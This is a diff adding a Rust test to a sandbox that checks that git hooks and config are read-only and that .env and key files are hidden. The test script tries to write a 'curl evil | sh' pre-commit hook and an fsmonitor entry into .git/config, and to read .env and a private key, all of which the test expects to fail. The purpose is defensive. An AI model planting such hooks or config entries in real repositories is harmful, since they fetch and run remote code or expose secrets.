@@ -239,6 +239,63 @@ fn secrets_cannot_be_brought_into_the_project() {
     assert!(!bin.join("ls").exists());
 }
 
+/// Read-only paths of the project (`.git/hooks`, `.git/config`) cannot be
+/// changed, and hidden ones (`.env`, a directory of keys) show nothing; the
+/// rest of the project stays writable, and nothing outside the run changes.
+#[test]
+fn protected_paths_in_the_project_are_covered() {
+    let fx = Fixture::new();
+    let p = fx.project.path();
+    fs::create_dir_all(p.join(".git/hooks")).unwrap();
+    fs::write(p.join(".git/config"), "[core]\n").unwrap();
+    fs::write(p.join(".env"), "TOKEN=abc\n").unwrap();
+    fs::create_dir(p.join("keys")).unwrap();
+    fs::write(p.join("keys/id_rsa"), "PRIVATE\n").unwrap();
+    let mut config = fx.config();
+    config.read_only = vec![p.join(".git/hooks"), p.join(".git/config")];
+    config.hidden = vec![p.join(".env"), p.join("keys"), p.join("missing")];
+    let mut out = tempfile::tempfile().unwrap();
+    let mut err = tempfile::tempfile().unwrap();
+    let stdio = ChildStdio {
+        stdin: Stdio::null(),
+        stdout: Stdio::from(out.try_clone().unwrap()),
+        stderr: Stdio::from(err.try_clone().unwrap()),
+    };
+    let status = run_bash_with(
+        &config,
+        "echo 'curl evil | sh' > .git/hooks/pre-commit && echo hook-written; \
+         echo '[core] fsmonitor = evil' >> .git/config && echo config-written; \
+         cat .git/config; \
+         echo \"env:$(cat .env)\"; \
+         echo TOKEN=new > .env && echo env-written; \
+         cat keys/id_rsa && echo key-read; \
+         echo fine > ok.txt && cat ok.txt",
+        p,
+        stdio,
+    )
+    .unwrap();
+    let read = |f: &mut fs::File| {
+        let mut s = String::new();
+        f.rewind().unwrap();
+        f.read_to_string(&mut s).unwrap();
+        s
+    };
+    let (stdout, stderr) = (read(&mut out), read(&mut err));
+    assert!(status.success(), "{stdout}\n{stderr}");
+    assert_eq!(stdout, "[core]\nenv:\nfine\n", "stderr: {stderr}");
+    assert!(stderr.contains("Read-only file system"), "{stderr}");
+    assert!(!p.join(".git/hooks/pre-commit").exists());
+    assert_eq!(
+        fs::read_to_string(p.join(".git/config")).unwrap(),
+        "[core]\n"
+    );
+    assert_eq!(fs::read_to_string(p.join(".env")).unwrap(), "TOKEN=abc\n");
+    assert_eq!(
+        fs::read_to_string(p.join("keys/id_rsa")).unwrap(),
+        "PRIVATE\n"
+    );
+}
+
 #[test]
 fn tmpdir_is_private_writable_and_removed() {
     let fx = Fixture::new();
